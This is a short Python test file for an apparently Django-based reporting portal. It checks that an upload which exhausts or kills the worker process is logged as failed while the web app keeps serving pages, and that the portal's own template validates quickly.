def test_60_berkas_yang_mematikan_anak_tercatat_gagal_dan_web_tetap_jalan(
    dunia: Dunia, klien: Client, unggah: Any, templat: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(services, "PEMBACA", "tests.serangan.anak_rakus")
    monkeypatch.setattr(services, "DETIK_WEB", 1)
    satu = bantu.unggahan(unggah(templat))
    assert satu.status == Unggahan.Status.GAGAL
    assert "terlalu" in satu.galat
    halaman = klien.get(reverse("pelaporan:unggahan", args=[satu.pk]))
    assert halaman.status_code == 200
    assert satu.galat in halaman.content.decode()
    assert klien.post(reverse("pelaporan:unggahan", args=[satu.pk]), {"aksi": "simpan"}).status_code == 409
    assert klien.get(bantu.alamat(dunia)).status_code == 200


def test_templat_portal_sendiri_lolos_dan_cepat(templat: bytes) -> None:
    cepat(lambda: arsip.periksa(templat))
    cepat(lambda: baca.baca(templat), 0.2)
